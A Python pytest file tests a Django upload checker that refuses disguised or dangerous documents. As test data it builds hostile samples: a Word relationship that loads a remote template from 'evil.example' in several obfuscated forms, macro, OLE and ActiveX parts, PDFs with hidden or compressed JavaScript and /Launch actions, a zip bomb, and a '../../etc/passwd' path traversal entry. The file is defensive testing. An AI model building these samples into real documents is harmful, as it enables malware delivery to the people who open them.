"""Uploaded files are what their names say, run nothing and burst nothing."""

from __future__ import annotations

import zipfile
import zlib
from io import BytesIO
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from core.operations import InvalidInput
from meetings.ingest.uploads import checked_upload
from meetings.validators.files import ending_of, plain_name
from tests.factories.meetings_invite import JPG, PDF, PNG, docx, odt, packed

MACRO_TYPES = (
    '<Types><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
FETCHES = (
    '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
    "</Relationships>"
)
PREFIXED = FETCHES.replace("<Relationship ", "<p:Relationship xmlns:p='x' ")
SPELLED = FETCHES.replace("https://", "&#104;ttps:&#47;/").replace("External", "E&#120;ternal")
SHARE = FETCHES.replace("https://evil.example", "file://evil.example/share")
PIXEL = FETCHES.replace("attachedTemplate", "image")
DOCTYPE = f"<!DOCTYPE x [<!ENTITY a 'b'>]>{FETCHES.replace('attachedTemplate', 'hyperlink')}"
HYPERLINK = FETCHES.replace("attachedTemplate", "hyperlink")
NORMAL_TEMPLATE = FETCHES.replace("https://evil.example/t.dotm", "file:///C:/Vorlagen/Normal.dotm")


def compressed_script() -> bytes:
    """A PDF whose script hides in a compressed list of objects."""
    packed_part = zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>")
    return (
        b"%PDF-1.7\n3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"
        + packed_part
        + b"\nendstream\nendobj\n%%EOF\n"
    )


def protected() -> bytes:
    """A package whose parts say that they are encrypted."""
    content = bytearray(docx())
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.find(sign)
        while place >= 0:
            content[place + offset] |= 1
            place = content.find(sign, place + 4)
    return bytes(content)


def bomb() -> bytes:
    """A Word text that unpacks to a thousand times its size."""
    return docx({"word/media/bild.xml": b"\x20" * (30 * 1024 * 1024)})


def twice() -> bytes:
    """A package with two parts of one name."""
    into = BytesIO(docx())
    with zipfile.ZipFile(into, "a") as package, pytest.warns(UserWarning, match="Duplicate"):
        package.writestr("word/document.xml", "<w:document/>")
    return into.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("vorlage.pdf", PDF, "application/pdf"),
        ("VORLAGE.PDF", PDF, "application/pdf"),
        (
            "Übersicht der Träger.docx",
            docx({"word/_rels/document.xml.rels": HYPERLINK}),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "vorlage.docx",
            docx({"word/_rels/settings.xml.rels": NORMAL_TEMPLATE}),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "mit-diagramm.docx",
            docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"}),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        ("text.odt", odt(), "application/vnd.oasis.opendocument.text"),
        ("bild.png", PNG, "image/png"),
        ("bild.jpeg", JPG, "image/jpeg"),
        ("bild.jpg", JPG, "image/jpeg"),
        ("stream.pdf", PDF.replace(b"endobj", b"stream\n/JS /Launch\nendstream endobj"), "application/pdf"),
    ],
)  # fmt: skip
def test_good_files_are_taken_by_what_they_are(name: str, content: bytes, kind: str) -> None:
    upload = checked_upload(SimpleUploadedFile(name, content, content_type="text/html"))

    assert (upload.file_name, upload.content_type, upload.content) == (name, kind, content)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("programm.exe", b"MZ\x90\x00", id="program"),
        pytest.param("programm.pdf", b"MZ\x90\x00", id="renamed program"),
        pytest.param("vorlage.pdf.exe", PDF, id="two endings"),
        pytest.param("ohne-endung", PDF, id="no ending"),
        pytest.param("bild.svg", b"<svg onload='x()'/>", id="svg"),
        pytest.param("seite.html", b"<html></html>", id="html"),
        pytest.param("seite.pdf", b"<html>%PDF-1.7 %%EOF</html>", id="html named pdf"),
        pytest.param("leer.pdf", b"", id="empty"),
        pytest.param("halb.pdf", PDF[:40], id="cut off"),
        pytest.param("halb.png", PNG[:20], id="cut off picture"),
        pytest.param("text.docm", docx(types=MACRO_TYPES), id="docm"),
        pytest.param("text.docx", docx(types=MACRO_TYPES), id="renamed docm"),
        pytest.param("text.docx", docx({"word/vbaProject.bin": b"x"}), id="macros"),
        pytest.param("text.docx", docx({"word/embeddings/oleObject1.bin": b"x"}), id="ole"),
        pytest.param("text.docx", docx({"word/activeX/activeX1.xml": b"x"}), id="activex"),
        pytest.param("text.docx", docx({"word/_rels/settings.xml.rels": FETCHES}), id="fetches"),
        pytest.param("text.docx", docx({"word/_rels/settings.xml.rels": PREFIXED}), id="fetches, prefixed"),
        pytest.param("text.docx", docx({"word/_rels/settings.xml.rels": SPELLED}), id="fetches, as entities"),
        pytest.param("text.docx", docx({"word/_rels/settings.xml.rels": SHARE}), id="fetches from a share"),
        pytest.param("text.docx", docx({"word/_rels/document.xml.rels": PIXEL}), id="calls home by a picture"),
        pytest.param("text.docx", docx({"word/_rels/document.xml.rels": "<Relationships"}), id="broken list"),
        pytest.param("text.docx", docx({"word/_rels/document.xml.rels": DOCTYPE}), id="document type"),
        pytest.param("text.docx", docx({"../../etc/passwd": b"x"}), id="leads out"),
        pytest.param("text.docx", docx({"word/inner.zip": b"PK"}), id="nested"),
        pytest.param("text.docx", packed({"a.txt": "a"}), id="any zip"),
        pytest.param("text.docx", odt(), id="odt named docx"),
        pytest.param("text.docx", docx()[:-40], id="broken zip"),
        pytest.param("text.docx", bomb(), id="bomb"),
        pytest.param("text.docx", protected(), id="password"),
        pytest.param("text.odt", docx(), id="docx named odt"),
        pytest.param("text.odt", odt({"Basic/Standard/Modul1.xml": b"x"}), id="basic"),
        pytest.param("text.odt", odt({"Object 1": b"x"}), id="ole in odt"),
        pytest.param(
            "text.odt",
            odt({"styles.xml": "<x xlink:href='vnd.sun.star.script:a.b'/>"}),
            id="calls macros",
        ),
        pytest.param("skript.pdf", PDF.replace(b"/Catalog", b"/Catalog /JavaScript 2 0 R"), id="js"),
        pytest.param("skript.pdf", PDF.replace(b"/Catalog", b"/X /J#61vaScript 2 0 R"), id="hidden js"),
        pytest.param("skript.pdf", compressed_script(), id="compressed js"),
        pytest.param("start.pdf", PDF.replace(b"/Catalog", b"/X /S /Launch"), id="launch"),
        pytest.param("anlage.pdf", PDF.replace(b"/Catalog", b"/EmbeddedFiles 1"), id="files within"),
    ],
)  # fmt: skip
def test_bad_files_are_refused_at_their_field(name: str, content: bytes) -> None:
    with pytest.raises(InvalidInput) as refusal:
        checked_upload(SimpleUploadedFile(name, content, content_type="application/pdf"))

    assert list(refusal.value.errors) == ["file"]


def test_a_part_there_twice_is_refused() -> None:
    with pytest.raises(InvalidInput):
        checked_upload(SimpleUploadedFile("text.docx", twice()))


def test_size_and_kinds_are_settings(settings: Any) -> None:
    settings.UPLOAD_MAX_BYTES = len(PDF) - 1
    with pytest.raises(InvalidInput):
        checked_upload(SimpleUploadedFile("vorlage.pdf", PDF))

    settings.UPLOAD_MAX_BYTES = len(PDF)
    assert checked_upload(SimpleUploadedFile("vorlage.pdf", PDF)).content == PDF

    settings.UPLOAD_TYPES = ("docx",)
    with pytest.raises(InvalidInput):
        checked_upload(SimpleUploadedFile("vorlage.pdf", PDF))


def test_what_is_larger_than_the_limit_is_not_read(settings: Any) -> None:
    settings.UPLOAD_MAX_BYTES = 10
    file = SimpleUploadedFile("vorlage.pdf", PDF)

    with pytest.raises(InvalidInput):
        checked_upload(file)

    assert file.tell() == 0


@pytest.mark.parametrize(
    ("name", "plain"),
    [
        ("C:\\Eigene Dateien\\vorlage.pdf", "vorlage.pdf"),
        ("../../vorlage.pdf", "vorlage.pdf"),
        ("vor\u202elage\x00\r\n.pdf", "vorlage.pdf"),
        (" .. ", ""),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
    ],
)
def test_names_lose_what_is_dangerous_in_them(name: str, plain: str) -> None:
    assert plain_name(name) == plain


def test_endings_are_read_off_the_plain_name() -> None:
    assert ending_of("bild.JPEG ") == "jpg"
    assert ending_of("datei") == ""


@pytest.mark.parametrize("part", [b"stream\n", b"stream\nx\nendstream\n", b" obj /ObjStm stream\n"])
def test_a_hostile_pdf_is_read_in_one_pass(part: bytes) -> None:
    """Each opening without an end used to read the rest of the file anew: hours for one megabyte."""
    content = b"%PDF-1.7\n" + part * (1_000_000 // len(part)) + b"\n%%EOF\n"
    assert checked_upload(SimpleUploadedFile("gross.pdf", content)).content == content
